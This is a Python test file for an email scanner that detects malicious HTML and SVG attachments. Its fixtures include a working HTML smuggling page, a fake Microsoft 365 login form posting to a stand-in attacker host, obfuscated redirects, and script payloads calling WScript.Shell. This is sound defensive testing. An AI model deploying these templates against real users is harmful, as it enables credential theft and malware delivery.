import base64
import io
import zipfile
from urllib.parse import quote

from kakuri.detect.attachment_links import attachment_urls
from kakuri.detect.base import ScanContext
from kakuri.detect.html_attachment import HtmlAttachment
from kakuri.model import Action, Envelope
from kakuri.parse.mime import parse_message
from kakuri.pipeline import Scanner
from kakuri.unpack.walker import unpack_message
from kakuri.unpack.limits import UnpackLimits
from tests.builders import make_message

VICTIM = "hanako@tokai-keiki.example"


def smuggling_page(payload: bytes, name: str) -> str:
    """The classic smuggler: base64 in a variable, split over `+`, turned into a Blob and saved."""
    encoded = base64.b64encode(payload).decode()
    half = len(encoded) // 2
    return f"""<html><body><p>Your document is downloading...</p><script>
    // assemble the file
    var data = "{encoded[:half]}" +
               "{encoded[half:]}";
    function b64(d) {{ var s = window.atob(d); var a = new Uint8Array(s.length);
      for (var i = 0; i < s.length; i++) a[i] = s.charCodeAt(i); return a; }}
    var blob = new Blob([b64(data)], {{type: 'application/octet-stream'}});
    if (navigator.msSaveOrOpenBlob) navigator.msSaveOrOpenBlob(blob, "{name}");
    else {{ var a = document.createElement('a'); a.href = URL.createObjectURL(blob);
      a.download = "{name}"; document.body.appendChild(a); a.click(); }}
    </script></body></html>"""


def zip_of(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, data)
    return out.getvalue()


def credential_page(target: str = "https://collect.lure-host.example/next.php") -> str:
    return f"""<!doctype html><html><head><title>Microsoft 365 - Sign in</title>
    <script src="https://cdn.lure-host.example/jquery.min.js"></script></head><body>
    <img src="https://logos.lure-host.example/ms.png" alt="Microsoft">
    <form method="post" action="{target}">
      <input type="email" name="login" value="{VICTIM}"><input type="password" name="passwd">
      <button type="submit">Sign in</button></form></body></html>"""


def scan(html: str, filename: str = "Document.html", ctype: str = "text/html"):
    raw = make_message(to=f"Hanako <{VICTIM}>", attachments=[(filename, html.encode(), ctype)])
    message = parse_message(raw)
    unpack_message(message, UnpackLimits(), lambda: [])
    ctx = ScanContext(envelope=Envelope(rcpt_tos=(VICTIM,)))
    findings = {}
    for f in HtmlAttachment().check(message, ctx):
        findings.setdefault(f.symbol, dict(f.evidence) | {"part": f.part or ""})
    return findings, message, ctx


def test_smuggled_zip_with_a_script_is_carved_opened_and_named_as_the_page_names_it():
    page = smuggling_page(zip_of("Invoice_0915.js", b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');"),
                          "Invoice_0915.zip")
    findings, message, _ = scan(page)
    assert {"HTML_SMUGGLING", "HTML_SMUGGLED_FILE"} <= set(findings)
    assert findings["HTML_SMUGGLED_FILE"]["filename"] == "Invoice_0915.zip"
    assert findings["HTML_SMUGGLED_FILE"]["type"] == "zip"
    paths = [p.path for p in message.walk_parts()]
    assert "Document.html/Invoice_0915.zip/Invoice_0915.js" in paths


def test_smuggled_macro_document_from_a_char_code_list_is_carved():
    docm = zip_of("[Content_Types].xml", b"<Types/>" + b"x" * 200)
    codes = ",".join(str(b) for b in docm)
    page = f"""<html><body><script>var b = new Blob([new Uint8Array([{codes}])]);
    var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'Order.docm'; a.click();
    </script></body></html>"""
    findings, message, _ = scan(page)
    assert findings["HTML_SMUGGLED_FILE"]["filename"] == "Order.docm"
    assert "char-code list" in findings["HTML_OBFUSCATED_SCRIPT"]["techniques"]
    assert any(p.path == "Document.html/Order.docm" and p.data == docm for p in message.walk_parts())


def test_credential_page_posting_elsewhere_with_the_recipient_prefilled():
    findings, _, ctx = scan(credential_page())
    assert {"HTML_CREDENTIAL_FORM", "HTML_FORM_POSTS_AWAY", "HTML_RECIPIENT_EMBEDDED", "HTML_REMOTE_SCRIPT"} <= set(findings)
    assert findings["HTML_FORM_POSTS_AWAY"]["target"] == "https://collect.lure-host.example/next.php"
    assert findings["HTML_CREDENTIAL_FORM"]["title"] == "Microsoft 365 - Sign in"
    assert ctx.facts["html_attachment.brand_text"] == ["Microsoft 365 - Sign in", "Microsoft"]
    assert "collect.lure-host.example" in {u.host for u in attachment_urls(ctx)}


def test_credential_page_hidden_in_document_write_unescape_is_found_in_its_layer():
    wrapped = f'<script>document.write(unescape("{quote(credential_page(), safe="")}"));</script>'
    findings, _, _ = scan(wrapped)
    assert {"HTML_CREDENTIAL_FORM", "HTML_FORM_POSTS_AWAY", "HTML_OBFUSCATED_SCRIPT"} <= set(findings)
    assert "document.write" in findings["HTML_OBFUSCATED_SCRIPT"]["techniques"]


def test_obfuscated_redirect_page_with_the_recipient_in_the_fragment():
    target = "https://portal.lure-host.example/#" + base64.b64encode(VICTIM.encode()).decode()
    codes = ",".join(str(ord(c)) for c in f'window.location.href = "{target}";')
    page = f"<html><body><script>eval(String.fromCharCode({codes}));</script></body></html>"
    findings, _, _ = scan(page, "Remittance.htm")
    assert {"HTML_OBFUSCATED_SCRIPT", "HTML_REDIRECT_PAGE", "HTML_RECIPIENT_EMBEDDED"} <= set(findings)
    assert findings["HTML_REDIRECT_PAGE"]["target"] == target


def test_meta_refresh_page_is_a_redirect():
    findings, _, ctx = scan('<html><head><meta http-equiv="refresh" content="0; url=https://x.lure-host.example/a">'
                            "</head><body>Loading...</body></html>")
    assert findings["HTML_REDIRECT_PAGE"]["target"] == "https://x.lure-host.example/a"
    assert [u.url for u in attachment_urls(ctx)] == ["https://x.lure-host.example/a"]


def test_svg_with_script_and_a_foreign_object_form():
    svg = """<svg xmlns="http://www.w3.org/2000/svg" onload="go()"><script>function go(){
      window.location = 'https://x.lure-host.example/'}</script>
      <foreignObject width="300" height="200"><form action="https://x.lure-host.example/p">
      <input type="password" name="p"></form></foreignObject></svg>"""
    findings, _, _ = scan(svg, "Voicemail.svg", "image/svg+xml")
    assert {"SVG_ACTIVE_CONTENT", "HTML_CREDENTIAL_FORM"} <= set(findings)
    assert "script" in findings["SVG_ACTIVE_CONTENT"]["content"]


def test_saved_receipt_and_newsletter_pages_are_clean():
    receipt = """<html><head><title>Your receipt from Example Books</title>
    <style>td { font-family: Arial }</style></head><body><table><tr><td>Order 4711</td><td>2,400 JPY</td></tr>
    <tr><td colspan=2><a href="https://books.example/orders/4711">View your order</a></td></tr></table>
    <img src="https://books.example/logo.png" alt="Example Books"><p>Thank you for shopping with us. """ + \
        "Shipping details and our return policy follow here. " * 20 + "</p></body></html>"
    newsletter = """<html><body><h1>Monthly news</h1>""" + "<p>An article about calibration and gauges.</p>" * 30 + \
        """<a href="https://news.example/click?u=1">Read more</a>
        <script>window.dataLayer = window.dataLayer || []; function gtag(){dataLayer.push(arguments);}</script>
        <img src="data:image/png;base64,""" + base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 40).decode() + """">
        </body></html>"""
    for page in (receipt, newsletter):
        findings, message, ctx = scan(page, "receipt.html")
        assert findings == {}, findings
        assert len(attachment_urls(ctx)) >= 1


def test_malformed_page_does_not_raise():
    findings, _, _ = scan("<html><script>var a = 'unterminated; <<<<\x00\x01 <form action=")
    assert "HTML_CREDENTIAL_FORM" not in findings


def test_smuggling_page_in_the_pipeline_is_quarantined(settings):
    page = smuggling_page(zip_of("Invoice.js", b"WScript.CreateObject('WScript.Shell').Run('cmd');"), "Invoice.zip")
    raw = make_message(attachments=[("Invoice.html", page.encode(), "text/html")])
    verdict = Scanner(settings).scan(raw).verdict
    assert verdict.action is Action.QUARANTINE, verdict.reasons
    assert "HTML_SMUGGLED_PAYLOAD" in " ".join(verdict.reasons) or "HTML_SMUGGLING" in {f.symbol for f in verdict.findings}


def test_credential_page_in_the_pipeline_is_quarantined(settings):
    raw = make_message(to=f"Hanako <{VICTIM}>", attachments=[("Secure Message.html", credential_page().encode(),
                                                                "text/html")])
    verdict = Scanner(settings).scan(raw).verdict
    assert verdict.action is Action.QUARANTINE, verdict.reasons


def test_page_that_only_pulls_its_content_from_the_web_is_a_loader():
    findings, _, ctx = scan(f'<html><head><script>var e = "{VICTIM}";</script>'
                            '<script src="https://cdn.lure-host.example/p.js"></script></head><body></body></html>')
    assert findings["HTML_REMOTE_LOADER"]["src"] == "https://cdn.lure-host.example/p.js"
    assert "HTML_RECIPIENT_EMBEDDED" in findings
    framed, _, _ = scan('<html><body style="margin:0"><iframe src="https://view.lure-host.example/doc" '
                        'style="width:100%;height:100%"></iframe></body></html>')
    assert framed["HTML_REMOTE_LOADER"]["src"] == "https://view.lure-host.example/doc"


def test_svg_links_are_published():
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
           '<a xlink:href="https://pay.lure-host.example/x"><rect width="100" height="40"/></a></svg>')
    findings, _, ctx = scan(svg, "Invoice.svg", "image/svg+xml")
    assert findings == {}
    assert [u.host for u in attachment_urls(ctx)] == ["pay.lure-host.example"]


def test_nesting_bomb_padding_does_not_hide_the_smuggler():
    """Thousands of unclosed elements make HTML5 tree building quadratic; the script is still read."""
    page = "<div>" * 50_000 + smuggling_page(zip_of("a.js", b"WScript.Echo(1)" * 10), "a.zip")
    findings, message, _ = scan(page)
    assert "element nesting bomb" in findings["HTML_OBFUSCATED_SCRIPT"]["techniques"]
    assert findings["HTML_SMUGGLED_FILE"]["filename"] == "a.zip"


def test_scripts_of_unclosed_quotes_are_read_in_one_pass():
    findings, _, _ = scan("<script>" + "'a\\" * 100_000 + "</script>")
    assert "HTML_SMUGGLING" not in findings


def test_diagram_svg_with_text_in_foreign_objects_is_clean():
    labels = "".join(f'<foreignObject x="{i}" y="0" width="80" height="20"><div xmlns="http://www.w3.org/1999/xhtml">'
                     f"Step {i}: one = two</div></foreignObject>" for i in range(200))
    findings, _, _ = scan(f'<svg xmlns="http://www.w3.org/2000/svg"><g>{labels}</g></svg>', "flow.svg", "image/svg+xml")
    assert findings == {}


def test_svg_event_handler_is_named_in_the_evidence():
    findings, _, _ = scan('<svg xmlns="http://www.w3.org/2000/svg"><image href="x.png" onerror="top.location=\'https://'
                          'x.lure-host.example/\'"/></svg>', "fax.svg", "image/svg+xml")
    assert findings["SVG_ACTIVE_CONTENT"]["content"] == "event handler onerror"


def test_many_self_closing_svg_elements_are_no_nesting_bomb():
    paths = '<path d="M0 0L1 1"/>' * 5000
    findings, _, _ = scan(f'<svg xmlns="http://www.w3.org/2000/svg"><g>{paths}</g></svg>', "logo.svg", "image/svg+xml")
    assert findings == {}


def envelope_page(form_target: str, script_src: str) -> str:
    """What encrypted-mail services attach: an encrypted blob, a password form posting back to the service."""
    blob = base64.b64encode(bytes(range(256)) * 8).decode()
    return f"""<html><head><title>Secure Message</title><script src="{script_src}"></script></head><body>
    <form method="post" action="{form_target}"><input type="hidden" name="key" value="{blob}">
    <input type="password" name="passphrase"><input type="submit" value="Open"></form></body></html>"""


def test_encrypted_mail_services_envelope_is_not_a_phishing_page():
    page = envelope_page("https://res.cisco.com/websafe/decrypt", "https://res.cisco.com/websafe/js/open.js")
    findings, _, ctx = scan(page, "securedoc_20260907.html")
    assert findings == {}
    assert "res.cisco.com" in {u.host for u in attachment_urls(ctx)}


def test_envelope_imitation_posting_elsewhere_is_a_credential_page():
    page = envelope_page("https://res-cisco.lure-host.example/decrypt", "https://res.cisco.com/websafe/js/open.js")
    findings, _, _ = scan(page, "securedoc_20260907.html")
    assert {"HTML_CREDENTIAL_FORM", "HTML_FORM_POSTS_AWAY"} <= set(findings)
